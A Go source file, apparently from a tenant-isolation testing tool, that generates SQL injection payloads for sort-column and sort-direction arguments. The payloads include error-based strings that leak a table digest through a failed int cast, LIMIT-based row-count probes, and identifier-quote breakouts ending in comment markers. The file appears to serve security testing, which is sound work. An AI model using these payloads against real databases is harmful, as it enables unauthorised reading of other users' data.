package victims

import (
	"fmt"
	"strings"

	"github.com/atlilith/onboardbot/onboarding/isolation/catalog"
	"github.com/atlilith/onboardbot/onboarding/isolation/query"
)

// usual is a value that most likely makes a call succeed: the argument's default, the direction or
// the column of a sort order where the name of a text says that it is one, or else the first
// candidate.
func (a argument) usual() string {
	switch {
	case a.preset != "":
		return a.preset
	case a.isText() && a.nameHas("dir", "asc", "desc"):
		return a.spell(query.Literal("asc"))
	case a.isText() && a.nameHas("sort", "order", "column", "field", "key", "by"):
		if columns := a.sortColumns(); len(columns) > 0 {
			return a.spell(query.Literal(columns[0].Name))
		}
	}
	return a.spell(a.candidates()[0])
}

func (a argument) spell(value string) string { return value + "::" + a.typ }

// sortColumns are a column of each of the tables that injected SQL reads: its key, or else its
// first.
func (a argument) sortColumns() []*catalog.Column {
	var found []*catalog.Column
	for _, t := range a.injectedTables() {
		if key := t.SingleKey(); key != nil {
			found = append(found, key)
		} else if len(t.Columns) > 0 {
			found = append(found, t.Columns[0])
		}
	}
	return found
}

// afterExpression is SQL for a function that pastes an argument after an expression or in its
// place, such as the column that it sorts by, or the direction. What the SQL reads shows in an
// error, whose message has a digest of it, or in the number of rows that a call returns.
func (a argument) afterExpression() []string {
	var found []string
	for _, t := range a.injectedTables() {
		// random() keeps the expression from being constant: since PostgreSQL 16, an aggregate
		// does not evaluate a constant in its ORDER BY.
		failing := fmt.Sprintf("(SELECT 'x' || md5(string_agg(v::text, '' ORDER BY v::text)) FROM %s v)::int"+
			" + (0 * random())::int", t.SQL())
		ends := []string{", " + failing}
		for _, parts := range []int{2, 3} {
			ends = append(ends, fmt.Sprintf(" LIMIT (SELECT count(*) %% %d FROM %s) --", parts, t.SQL()))
		}
		found = append(found, failing)
		for _, end := range ends {
			found = append(found, "ASC"+end, "1"+end)
		}
		for _, column := range a.sortColumns() {
			for _, end := range ends {
				found = append(found, strings.ReplaceAll(column.Name, `"`, `""`)+`"`+end+" --")
			}
		}
	}
	return found
}
